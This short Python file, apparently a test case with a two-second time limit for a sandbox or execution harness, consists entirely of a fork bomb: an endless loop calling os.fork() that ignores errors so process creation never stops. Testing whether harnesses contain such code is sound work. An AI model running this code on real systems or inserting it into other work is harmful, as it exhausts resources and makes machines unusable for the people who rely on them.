"""Fork without end."""

# seconds: 2

# %%
while True:
    try:
        os.fork()
    except OSError:
        pass
